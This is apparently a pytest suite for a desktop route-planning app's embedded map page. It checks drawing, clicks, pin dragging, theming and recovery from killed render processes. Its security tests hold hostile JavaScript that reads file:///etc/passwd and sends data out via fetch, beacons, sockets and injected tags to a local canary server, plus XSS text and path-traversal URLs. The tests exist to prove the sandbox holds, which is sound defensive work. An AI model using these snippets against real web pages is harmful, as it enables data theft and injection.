"""The map in a real web page: what it draws, what a click tells, and that nothing gets out or stays dead."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from PySide6.QtCore import QEvent, QPoint, QPointF, Qt
from PySide6.QtGui import QColor, QMouseEvent
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QPushButton, QWidget

sys.path.insert(0, str(Path(__file__).parent))

from canary import CanaryServer, payloads
from map_factories import make_day, timed_route
from web_pages import evaluate, pause, run, wait_for

from lastmile_desktop.model import Assignment, Day, Order, Timetable
from lastmile_desktop.ui import theme
from lastmile_desktop.ui.jobs import Jobs
from lastmile_desktop.ui.map_view import host
from lastmile_desktop.ui.map_view.scheme import prepare_web_engine
from lastmile_desktop.ui.map_view.view import MapView
from lastmile_desktop.ui.selection import Selection

prepare_web_engine()  # before the tests' QApplication, as the program does


class Shown:
    """A map view on the screen, and what was heard from it."""

    def __init__(self) -> None:
        self.selection = Selection()
        self.jobs = Jobs()
        self.view = MapView(self.selection, self.jobs)
        self.draws = 0
        self.sent: list[str] = []
        self.view.drawn.connect(self._count)
        self.view._host.bridge.pushed.connect(self.sent.append)
        self.view.resize(960, 520)
        self.view.show()
        wait_for(lambda: self.view.is_ready, "the map page listens")

    def _count(self) -> None:
        self.draws += 1

    @property
    def page(self) -> object:
        return self.view._host._page

    def show(self, day: Day, timetable: Timetable | None, assignment: Assignment | None) -> None:
        before = self.draws
        self.view.show_day(day, timetable, assignment)
        wait_for(lambda: self.draws > before, "the map is drawn")

    def counts(self) -> dict[str, int]:
        return evaluate(self.page, "lastmile.counts()")

    def pixel(self, order_key: str) -> QPoint:
        place = evaluate(self.page, f"lastmile.pixelOf('{order_key}')")
        return QPoint(round(place["x"]), round(place["y"]))

    def click(self, at: QPoint) -> None:
        QTest.mouseClick(self.view._host.web.focusProxy(), Qt.MouseButton.LeftButton, pos=at)

    def colour(self, at: QPoint) -> QColor:
        return self.view.grab_picture().toImage().pixelColor(at)

    def close(self) -> None:
        self.view.close_page()
        self.view.close()
        self.jobs.close()


@pytest.fixture(scope="module")
def shown(qapp: QApplication) -> Iterator[Shown]:
    shown = Shown()
    yield shown
    shown.close()


@pytest.fixture(scope="module")
def server() -> Iterator[CanaryServer]:
    with CanaryServer().listening() as server:
        yield server


@pytest.fixture(autouse=True)
def _nothing_selected(request: pytest.FixtureRequest) -> Iterator[None]:
    yield
    if "shown" in request.fixturenames:
        shown: Shown = request.getfixturevalue("shown")
        shown.view.stop_placing()
        shown.selection.clear()


def small_day() -> tuple[Day, Timetable, Assignment]:
    return make_day(routes=3, stops=4, left=2, seed=5)


def test_a_day_is_drawn_whole(shown: Shown) -> None:
    shown.show(*small_day())
    assert shown.counts() == {"routes": 3, "stops": 12, "unassigned": 2, "depots": 1}


def test_a_click_on_a_stop_selects_the_order(shown: Shown) -> None:
    day, timetable, assignment = small_day()
    shown.show(day, timetable, assignment)
    heard: list[str] = []
    shown.view.order_clicked.connect(heard.append)
    for key in (timetable.routes[1].order_keys[2], timetable.unassigned[0].order_key):
        shown.click(shown.pixel(key))
        wait_for(lambda key=key: shown.selection.order_key == key, "the click selects")
    assert len(heard) == 2


def test_a_click_on_a_line_selects_the_route_and_one_on_the_ground_nothing(shown: Shown) -> None:
    day, timetable, assignment = small_day()
    shown.show(day, timetable, assignment)
    first, second = (shown.pixel(key) for key in timetable.routes[2].order_keys[2:])
    shown.click((first * 2 + second * 3) / 5)
    wait_for(lambda: shown.selection.vehicle_key == "v2", "the line selects its route")
    shown.click(QPoint(20, 480))
    wait_for(lambda: shown.selection.vehicle_key is None, "the ground clears the selection")


def test_what_is_selected_elsewhere_stands_out_and_the_rest_steps_back(shown: Shown) -> None:
    day, timetable, assignment = small_day()
    shown.show(day, timetable, assignment)
    # a little beside the middle, where the number is
    other = shown.pixel(timetable.routes[0].order_keys[1]) + QPoint(0, 8)
    colour = QColor(theme.current().route(0))
    assert shown.colour(other) == colour
    shown.selection.select_order(timetable.routes[1].order_keys[0])
    wait_for(lambda: evaluate(shown.page, "lastmile.boldRoute") == "v1", "the page hears of it")
    wait_for(lambda: shown.colour(other) != colour, "other routes are dimmed")
    mine = shown.pixel(timetable.routes[1].order_keys[1]) + QPoint(0, 8)
    assert shown.colour(mine) == QColor(theme.current().route(1))


def test_a_change_of_one_route_sends_and_moves_nothing_else(shown: Shown) -> None:
    day, timetable, assignment = small_day()
    shown.show(day, timetable, assignment)
    run(shown.page, "lastmile.map.setView([51.06, 3.75], 12, {animate: false})")
    shown.sent.clear()
    orders = [day.order_by_key[key] for key in reversed(timetable.routes[1].order_keys)]
    routes = list(timetable.routes)
    routes[1] = timed_route(day.vehicles[1], orders)
    shown.show(day, replace(timetable, routes=tuple(routes)), assignment)
    changes = [text for text in shown.sent if '"change"' in text]
    assert len(changes) == 1
    assert '"v1"' in changes[0]
    assert '"v0"' not in changes[0]
    assert shown.view._feed.built == 1
    assert evaluate(shown.page, "lastmile.map.getZoom()") == 12
    assert evaluate(shown.page, "lastmile.routes.get('v1').stops[0].stop.key") == orders[0].key


def test_another_day_is_looked_at_whole(shown: Shown) -> None:
    day, timetable, assignment = small_day()
    shown.show(day, timetable, assignment)
    run(shown.page, "lastmile.map.setView([40, -3], 6, {animate: false})")
    shown.show(replace(day, source_name="tomorrow.xlsx"), timetable, assignment)
    inside = "lastmile.map.getBounds().contains(lastmile.bounds())"
    wait_for(lambda: evaluate(shown.page, inside) is True, "all stops are in sight")


def test_placing_an_order_takes_the_next_click(shown: Shown) -> None:
    day, timetable, assignment = small_day()
    shown.show(day, timetable, assignment)
    picked: list[tuple[str, float, float]] = []
    shown.view.position_picked.connect(lambda *place: picked.append(place))
    shown.view.start_placing("o1", "Bakkerij <b>De Zon</b>")
    banner = "document.querySelector('.lm-banner').innerHTML"
    wait_for(lambda: "De Zon" in str(evaluate(shown.page, banner)), "the banner names the order")
    assert "<b>Bakkerij &lt;b&gt;" in evaluate(shown.page, banner)
    target = shown.pixel(timetable.routes[0].order_keys[0])
    shown.click(target)
    wait_for(lambda: bool(picked), "a position was picked")
    location = day.order_by_key[timetable.routes[0].order_keys[0]].location
    assert location is not None
    assert picked[0][0] == "o1"
    assert abs(picked[0][1] - location.lat) < 0.002
    assert abs(picked[0][2] - location.lon) < 0.002
    assert shown.selection.order_key is None
    hidden = "document.querySelector('.lm-banner').hidden"
    wait_for(lambda: bool(evaluate(shown.page, hidden)), "the page has stopped placing")
    shown.click(target)
    wait_for(lambda: shown.selection.order_key is not None, "the next click selects again")
    assert len(picked) == 1


def drag(hand: QWidget, start: QPoint, end: QPoint) -> None:
    """As a hand does it: with the button held on the way (QTest moves without it)."""
    kinds = [QEvent.Type.MouseButtonPress, *[QEvent.Type.MouseMove] * 10, QEvent.Type.MouseButtonRelease]
    for step, kind in enumerate(kinds):
        at = QPointF(start) + QPointF(end - start) * min(1.0, step / 10)
        left, none = Qt.MouseButton.LeftButton, Qt.MouseButton.NoButton
        pressed = none if kind is QEvent.Type.MouseButtonRelease else left
        button = none if kind is QEvent.Type.MouseMove else left
        event = QMouseEvent(
            kind, at, QPointF(hand.mapToGlobal(at)), button, pressed, Qt.KeyboardModifier.NoModifier
        )
        QApplication.sendEvent(hand, event)
        QTest.qWait(20)


def test_a_placed_order_has_a_pin_that_can_be_dragged(shown: Shown) -> None:
    day, timetable, assignment = small_day()
    shown.show(day, timetable, assignment)
    location = day.order_by_key["o1"].location
    picked: list[tuple[str, float, float]] = []
    shown.view.position_picked.connect(lambda *place: picked.append(place))
    shown.view.start_placing("o1", "De Zon", location)
    wait_for(lambda: evaluate(shown.page, "lastmile.pin !== null") is True, "the pin stands")
    words = "document.querySelector('.lm-banner').textContent"
    assert "Drag the pin" in evaluate(shown.page, words)
    pixel = "lastmile.map.latLngToContainerPoint(lastmile.pin.getLatLng())"
    left, top = (evaluate(shown.page, f"{pixel}.{axis}") for axis in "xy")

    hand = shown.view._host.web.focusProxy()
    grip, door = QPoint(round(left), round(top) - 16), QPoint(round(left) + 60, round(top) + 34)
    drag(hand, grip, door)
    wait_for(lambda: bool(picked), "the pin was dropped")

    assert location is not None
    assert picked[0][0] == "o1"
    assert picked[0][1] < location.lat
    assert picked[0][2] > location.lon
    wait_for(lambda: evaluate(shown.page, "lastmile.pin === null") is True, "the pin is gone")


def test_escape_ends_placing(shown: Shown) -> None:
    shown.show(*small_day())
    ended: list[bool] = []
    shown.view.placing_ended.connect(lambda: ended.append(True))
    shown.view.start_placing("o1", "De Zon")
    banner = "document.querySelector('.lm-banner').textContent"
    wait_for(lambda: "De Zon" in str(evaluate(shown.page, banner)), "the page is placing")
    QTest.keyClick(shown.view._host.web.focusProxy(), Qt.Key.Key_Escape)
    wait_for(lambda: bool(ended), "placing ended")


def test_dark_and_light_reach_the_page(shown: Shown) -> None:
    shown.show(*small_day())
    corner = QPoint(300, 515)
    for choice, colours in (("dark", theme.DARK), ("light", theme.LIGHT)):
        theme.watcher().choice = choice
        theme.watcher().changed.emit()
        wanted = QColor(colours.map_ground)
        wait_for(lambda wanted=wanted: shown.colour(corner) == wanted, f"the ground is {choice}")


def hostile_day(texts: list[str]) -> tuple[Day, Timetable, Assignment]:
    """A day of 3 routes in which every text that can come from outside is hostile."""
    stops = len(texts) // 3 - 2
    day, timetable, assignment = make_day(routes=3, stops=stops, left=6, seed=2, name=texts[0])
    orders = tuple(_spoilt(order, text) for order, text in zip(day.orders, texts, strict=False))
    left = tuple(replace(entry, message=texts[at]) for at, entry in enumerate(timetable.unassigned))
    return (
        replace(day, orders=orders),
        replace(timetable, unassigned=left, roads=f"region:{texts[1]}"),
        assignment,
    )


def _spoilt(order: Order, text: str) -> Order:
    return replace(order, id=text, name=text, address=text, notes=text, phone=text)


_OPEN_ALL_TIPS = """
(function () {
  const seen = [];
  document.querySelectorAll('.lm-tip').forEach(function (one) { one.remove(); });
  lastmile.everyMark(function (mark) {
    mark.openTooltip();
    const tip = document.querySelector('.lm-tip');
    seen.push({
      text: tip.querySelector('.lm-name').textContent,
      foreign: tip.querySelectorAll('script,img,svg,iframe,a,link,meta,style,b').length
    });
    mark.closeTooltip();
    document.querySelectorAll('.lm-tip').forEach(function (one) { one.remove(); });
  });
  return seen;
})()
"""


def test_hostile_text_stays_text(shown: Shown, server: CanaryServer) -> None:
    texts = payloads(server.home, 510)
    for start in range(0, len(texts), 102):
        part = texts[start : start + 102]
        shown.show(*hostile_day(part))
        assert shown.counts() == {"routes": 3, "stops": 96, "unassigned": 6, "depots": 1}
        tips = evaluate(shown.page, _OPEN_ALL_TIPS)
        assert [tip["foreign"] for tip in tips] == [0] * 102
        as_shown = {text.encode("utf-16", "surrogatepass").decode("utf-16", "replace") for text in part}
        got = {tip["text"].encode("utf-16", "surrogatepass").decode("utf-16", "replace") for tip in tips}
        assert got == as_shown
        shown.view.start_placing("o1", part[-1])
        pause(20)
        shown.view.stop_placing()
    assert evaluate(shown.page, "[typeof window.canary, document.title === 'canary']") == ["undefined", False]
    assert server.calls == []


_ATTACKS = """
const home = '%s';
const quiet = function (act) { try { act(); } catch (error) { /* refused */ } };
quiet(() => fetch(home + '/fetch').catch(() => 0));
quiet(() => fetch('file:///etc/passwd').then(r => r.text()).then(t => { window.stolen = t; }).catch(() => 0));
quiet(() => { new Image().src = home + '/img'; });
quiet(() => navigator.sendBeacon(home + '/beacon', 'x'));
quiet(() => new WebSocket(home.replace('http', 'ws') + '/ws'));
quiet(() => new EventSource(home + '/events'));
quiet(() => new RTCPeerConnection({iceServers: [{urls: home.replace('http://', 'stun:')}]}));
quiet(() => window.open(home + '/open'));
quiet(() => { const x = new XMLHttpRequest(); x.open('GET', home + '/xhr'); x.send(); });
quiet(() => new Worker(URL.createObjectURL(new Blob(["fetch('" + home + "/worker')"]))));
const add = function (kind, values, body) {
  const node = Object.assign(document.createElement(kind), values);
  if (body) { node.textContent = body; }
  document.body.appendChild(node);
  return node;
};
quiet(() => add('script', {src: home + '/script'}));
quiet(() => add('script', {}, "window.injected = 1"));
quiet(() => add('iframe', {src: home + '/frame'}));
quiet(() => add('object', {data: home + '/object'}));
quiet(() => add('video', {src: home + '/video'}));
quiet(() => add('link', {rel: 'stylesheet', href: home + '/css'}));
quiet(() => add('link', {rel: 'prefetch', href: home + '/prefetch'}));
quiet(() => add('link', {rel: 'dns-prefetch', href: home + '/dns'}));
quiet(() => { add('div', {}).innerHTML = '<img src=x onerror="window.injected = 2">'; });
quiet(() => add('a', {href: home + '/download', download: 'x'}).click());
quiet(() => add('a', {href: home + '/link', target: '_blank'}).click());
quiet(() => add('form', {action: home + '/form', method: 'post'}).submit());
quiet(() => { location.href = home + '/location'; });
"""


def test_a_page_that_was_taken_over_reaches_nothing(shown: Shown, server: CanaryServer) -> None:
    from PySide6.QtWebEngineCore import QWebEnginePage, QWebEngineProfile

    profile = QWebEngineProfile()
    open_page = QWebEnginePage(profile)
    open_page.setHtml(f"<img src='{server.home}/control'>")
    wait_for(lambda: "/control" in server.calls, "an unlocked page does reach the server")
    open_page.deleteLater()
    server.calls.clear()

    shown.show(*small_day())
    run(shown.page, _ATTACKS % server.home)
    pause(1500)
    assert server.calls == []
    assert evaluate(shown.page, "[typeof window.stolen, typeof window.injected]") == ["undefined"] * 2
    assert shown.page.url().toString() == "lastmile://app/index.html"
    assert shown.counts()["stops"] == 12
    draws = shown.draws
    shown.page.triggerAction(shown.page.WebAction.Reload)
    wait_for(lambda: shown.draws > draws, "a clean page is back")
    assert evaluate(shown.page, "document.forms.length") == 0


@pytest.mark.parametrize(
    "address",
    [
        "lastmile://app/../../pyproject.toml",
        "lastmile://app/%2e%2e/style.qss",
        "lastmile://app/vendor/leaflet/LICENSE",
        "lastmile://app/export.js",
        "lastmile://app/plan.json?view=999",
        "lastmile://other/index.html",
        "file:///etc/hostname",
        "qrc:///qtwebchannel/qwebchannel.js",
    ],
)
def test_only_listed_files_are_served(shown: Shown, address: str) -> None:
    run(shown.page, f"window.got = ''; fetch('{address}').then(r => {{ window.got = r.ok ? 'yes' : 'no'; }}, "
                    "() => { window.got = 'no'; })")  # fmt: skip
    wait_for(lambda: evaluate(shown.page, "window.got") != "", "an answer or a refusal")
    assert evaluate(shown.page, "window.got") == "no"


def test_ids_that_the_day_does_not_have_are_ignored(shown: Shown) -> None:
    shown.show(*small_day())
    bridge = shown.view._host.bridge
    bridge.clicked("../../etc/passwd")
    bridge.route_clicked_on("o1")
    shown.view.start_placing("o1", "x")
    for lat, lon in ((float("nan"), 3.0), (91.0, 3.0), (51.0, float("inf"))):
        bridge.map_clicked(lat, lon)
    assert (shown.selection.order_key, shown.selection.vehicle_key) == (None, None)
    assert shown.view._placing is not None


def test_the_page_can_collect_its_garbage(shown: Shown) -> None:
    assert evaluate(shown.page, "typeof window.gc") == "function"


def test_a_file_dropped_on_the_map_goes_to_the_window(shown: Shown) -> None:
    settings = shown.page.profile().settings()
    web = shown.view._host.web
    assert [widget for widget in (web, *web.findChildren(QWidget)) if widget.acceptDrops()] == []
    assert not settings.testAttribute(settings.WebAttribute.NavigateOnDropEnabled)


@pytest.mark.skipif(sys.platform == "win32", reason="kills by POSIX signal")
def test_a_killed_page_comes_back_filled_and_asks_when_it_keeps_dying(shown: Shown) -> None:
    shown.show(*small_day())
    shown.selection.select_vehicle("v1")
    shown.view._host._deaths.clear()
    for _time in range(host._SILENT_RELOADS):
        draws = shown.draws
        os.kill(shown.page.renderProcessPid(), signal.SIGKILL)
        wait_for(lambda: not shown.view.is_ready, "the death is noticed")
        wait_for(lambda draws=draws: shown.draws > draws, "the map is back")
        assert shown.counts()["stops"] == 12
        wait_for(lambda: evaluate(shown.page, "lastmile.boldRoute") == "v1", "the selection is back")
        test_a_file_dropped_on_the_map_goes_to_the_window(shown)
    os.kill(shown.page.renderProcessPid(), signal.SIGKILL)
    button = shown.view.findChild(QPushButton)
    wait_for(button.isVisible, "the person is asked")
    draws = shown.draws
    QTest.mouseClick(button, Qt.MouseButton.LeftButton)
    wait_for(lambda: shown.draws > draws, "the map is back after the button")


@pytest.mark.skipif(sys.platform == "win32", reason="kills by POSIX signal")
def test_a_page_that_hangs_is_replaced(shown: Shown, monkeypatch: pytest.MonkeyPatch) -> None:
    day, timetable, assignment = small_day()
    shown.show(day, timetable, assignment)
    shown.view._host._deaths.clear()
    monkeypatch.setattr(host, "_ANSWER_WITHIN_MS", 700)
    shown.page.runJavaScript("while (true) {}")
    shown.view.show_day(day, None, None)
    wait_for(lambda: not shown.view.is_ready, "the silence is noticed")
    monkeypatch.setattr(host, "_ANSWER_WITHIN_MS", 20_000)
    wait_for(lambda: shown.view.is_ready and shown.counts()["unassigned"] == 14, "the map is back")


def test_without_a_web_engine_the_map_says_so(qapp: QApplication, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "PySide6.QtWebEngineWidgets", None)
    jobs = Jobs()
    view = MapView(Selection(), jobs)
    view.resize(600, 300)
    view.show()
    wait_for(lambda: "web view is missing" in view._host._words.text(), "the sentence is shown")
    view.show_day(*small_day())
    pause(50)
    jobs.close()
    assert not view.is_ready


def test_nothing_heavy_is_loaded_before_the_map_is_on_the_screen() -> None:
    script = (
        "import sys\n"
        "from lastmile_desktop.ui.map_view.scheme import prepare_web_engine\n"
        "prepare_web_engine()\n"
        "from PySide6.QtWidgets import QApplication\n"
        "app = QApplication([])\n"
        "from lastmile_desktop.ui.jobs import Jobs\n"
        "from lastmile_desktop.ui.selection import Selection\n"
        "from lastmile_desktop.ui.map_view.view import MapView\n"
        "from lastmile_desktop.ui.timeline.view import TimelineView\n"
        "from lastmile_desktop.ui.timeline.cost_curve import CostCurve\n"
        "jobs = Jobs()\n"
        "views = [MapView(Selection(), jobs), TimelineView(Selection(), jobs), CostCurve(jobs)]\n"
        "heavy = ('PySide6.QtWebEngineCore', 'folium', 'pyqtgraph', 'numpy', 'pandas', 'branca')\n"
        "print([name for name in heavy if name in sys.modules])\n"
    )
    answer = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=True)
    assert answer.stdout.strip() == "[]"
